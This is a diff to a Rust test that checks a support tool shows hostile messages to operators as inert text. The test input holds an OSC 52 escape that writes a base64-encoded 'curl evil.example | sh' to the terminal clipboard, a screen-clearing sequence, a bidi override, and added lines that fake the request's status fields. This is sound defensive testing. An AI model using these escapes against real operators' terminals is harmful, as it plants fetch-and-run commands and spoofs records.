@@ -336,7 +336,9 @@ async fn the_canary_audit_finds_nothing_of_the_new_fields_in_a_dump_or_the_logs(
 async fn a_message_with_terminal_escapes_reaches_the_operator_as_text_not_as_commands() {
     let app = spawn_app().await;
     // OSC 52 writes the terminal's clipboard; 8-bit CSI clears the screen; a bidi override.
-    let hostile = "Hello\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{9b}2J\u{202e}gnp.exe";
+    // And lines of its own made to look like the request's fields.
+    let hostile = "Hello\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{9b}2J\u{202e}gnp.exe\n\
+                   reference  S-00000000\nstatus     closed";
     let res = post(
         &app,
         json!({"email": "sly@example.net", "subject": "Hi\u{1b}[2J", "message": hostile}),
@@ -367,6 +369,13 @@ async fn a_message_with_terminal_escapes_reaches_the_operator_as_text_not_as_com
                 "{shown}"
             );
         }
+        // Its own lines cannot pass for fields of the request: they go on indented.
+        assert!(
+            !shown
+                .lines()
+                .any(|l| l.starts_with("status ") && l.contains("closed")),
+            "{shown}"
+        );
     }
     // And the JSON still says exactly what was sent.
     let out = admin(&vars, &["support", "show", &reference, "--json"]);
